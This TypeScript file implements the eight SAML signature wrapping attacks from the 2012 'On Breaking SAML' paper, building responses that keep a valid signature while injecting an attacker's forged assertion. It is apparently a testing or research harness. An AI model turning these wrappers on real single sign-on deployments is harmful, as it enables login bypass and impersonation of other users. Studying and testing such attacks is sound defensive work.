/** The signature wrapping attacks of Somorovsky et al., "On Breaking SAML" (USENIX Security 2012). */
export type Wrapping = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

export interface WrappedParts {
  /** The assertion that the provider issued, without and with its signature. */
  readonly plain: string;
  readonly signed: string;
  /** The assertion of the attacker, with the same identifier. */
  readonly evil: string;
  readonly response: (content: string) => string;
  readonly signResponse: (response: string) => string;
}

const SIGNATURE = /<Signature[\s\S]*?<\/Signature>/;
const EVIL_ID = 'ID="_evil"';

const withId = (xml: string): string => xml.replace(/ID="[^"]+"/, EVIL_ID);
const signatureOf = (xml: string): string => SIGNATURE.exec(xml)?.[0] ?? "";
const afterIssuer = (xml: string, added: string): string => xml.replace("</saml:Issuer>", `</saml:Issuer>${added}`);
const inside = (xml: string, name: string, added: string): string => {
  const at = xml.lastIndexOf(`</${name}>`);
  return `${xml.slice(0, at)}${added}${xml.slice(at)}`;
};

/** An answer with a valid signature over one part, and another part for readers that look elsewhere. */
export const wrapSignature = (kind: Wrapping, it: WrappedParts): string => {
  const evil = withId(it.evil);
  const signature = signatureOf(it.signed);
  switch (kind) {
    case 1:
    case 2: {
      const signed = it.signResponse(it.response(it.plain));
      const own = signatureOf(signed);
      const original = signed.replace(own, "");
      const outer = withId(it.response(evil));
      return kind === 1
        ? afterIssuer(outer, inside(own, "Signature", original))
        : afterIssuer(outer, `${original}${own}`);
    }
    case 3:
      return it.response(`${evil}${it.signed}`);
    case 4:
      return it.response(inside(evil, "saml:Assertion", it.signed));
    case 5:
      return it.response(`${afterIssuer(evil, signature)}${it.plain}`);
    case 6:
      return it.response(afterIssuer(evil, inside(signature, "Signature", it.plain)));
    case 7:
      return it.response(`<samlp:Extensions>${it.evil}</samlp:Extensions>${it.signed}`);
    case 8:
      return it.response(afterIssuer(evil, inside(signature, "Signature", `<Object>${it.plain}</Object>`)));
  }
};
